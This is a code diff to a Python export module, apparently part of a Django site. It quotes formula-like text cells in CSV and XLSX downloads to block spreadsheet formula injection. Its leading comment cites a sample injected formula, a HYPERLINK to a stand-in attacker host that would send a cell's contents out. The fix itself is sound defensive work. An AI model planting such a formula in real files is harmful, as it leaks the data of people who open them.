@@ -2,12 +2,13 @@
 
 Names reach the downloads from anyone (a roster file, an event's name), and a spreadsheet
 program runs a cell such as `=HYPERLINK("http://evil.example/?d="&A2,"Click")` as a formula
-when the file is opened. So, for every download of the site:
-- XLSX: each text cell is written with its data type set to string (`t="inlineStr"`), so a
-  leading `=` is shown, not evaluated; numbers stay numbers.
-- CSV: a text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return gets a
-  single quote in front (OWASP's advice for CSV injection), which spreadsheet programs read
-  as "this is text". Numbers (negative ones too) are written as they are.
+when the file is opened. So, for every download of the site, CSV and XLSX alike:
+- a text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return gets a single
+  quote in front (OWASP's advice for CSV injection), which spreadsheet programs read as "this
+  is text". Numbers (negative ones too) are written as they are.
+- XLSX: each text cell is also written with its data type set to string (`t="inlineStr"`), so
+  a leading `=` is shown, not evaluated. The quote is still needed there: a cell re-edited in a
+  spreadsheet program, or the sheet saved as CSV, is read anew, and `=…` becomes a formula.
 
 A cell is a number when its value is an int, float or Decimal (not a bool); anything else is
 text (None is an empty cell). `SafeCSV` and `SafeXLSX` are the same writers as
@@ -38,8 +39,14 @@ def is_number(value: object) -> TypeGuard[int | float | Decimal]:
     return isinstance(value, int | float | Decimal) and not isinstance(value, bool)
 
 
+def text_cell(text: str) -> str:
+    """`text` as a spreadsheet's text cell holds it: with a single quote in front if it starts
+    like a formula (`"=1+2"` becomes `"'=1+2"`, `"-2"` becomes `"'-2"`), else unchanged."""
+    return f"'{text}" if text.startswith(FORMULA_STARTS) else text
+
+
 def csv_cell(value: object) -> object:
-    """`value` as a CSV cell: a number unchanged, None as "", text with a formula start quoted.
+    """`value` as a CSV cell: a number unchanged, None as "", text through `text_cell`.
 
     `"=1+2"` becomes `"'=1+2"`, `"-2"` (text) becomes `"'-2"`, the number -2 stays -2.
     """
@@ -47,8 +54,7 @@ def csv_cell(value: object) -> object:
         return ""
     if is_number(value):
         return value
-    text = str(value)
-    return f"'{text}" if text.startswith(FORMULA_STARTS) else text
+    return text_cell(str(value))
 
 
 def csv_text(rows: Iterable[Row], *, delimiter: str = ",") -> str:
@@ -70,9 +76,9 @@ def xlsx_bytes(rows: Iterable[Row], *, title: str) -> bytes:
 
     The first row is the header (bold, kept in view when scrolling). Numbers are number cells,
     dates date cells; every other value is a string cell whose type is set explicitly, so no
-    text is ever read as a formula. Characters that XLSX cannot hold (control characters other
-    than tab, line feed and carriage return) are replaced by U+FFFD rather than failing the
-    download.
+    text is ever read as a formula, and which goes through `text_cell` as in the CSV (a formula
+    start quoted). Characters that XLSX cannot hold (control characters other than tab, line
+    feed and carriage return) are replaced by U+FFFD rather than failing the download.
     """
     # Imported here: the settings import this module (EXPORT_FORMATS), and need no openpyxl.
     from openpyxl import Workbook
@@ -98,7 +104,7 @@ def xlsx_bytes(rows: Iterable[Row], *, title: str) -> bytes:
                 cell.number_format = "yyyy-mm-dd"
                 text = value.isoformat()
             else:
-                text = ILLEGAL_CHARACTERS_RE.sub("\ufffd", str(value))
+                text = ILLEGAL_CHARACTERS_RE.sub("\ufffd", text_cell(str(value)))
                 cell.value = text
                 cell.data_type = "s"  # after the value: openpyxl would take a leading "=" as a formula
             if row_number == 1:
@@ -126,7 +132,8 @@ class SafeCSV(base_formats.CSV):
 
 
 class SafeXLSX(base_formats.XLSX):
-    """django-import-export's XLSX format, written by `xlsx_bytes` (text cells typed as text)."""
+    """django-import-export's XLSX format, written by `xlsx_bytes` (text cells typed as text,
+    formula starts quoted)."""
 
     def export_data(self, dataset: Any, **kwargs: Any) -> bytes:
         return xlsx_bytes(_dataset_rows(dataset), title=dataset.title or "Sheet")
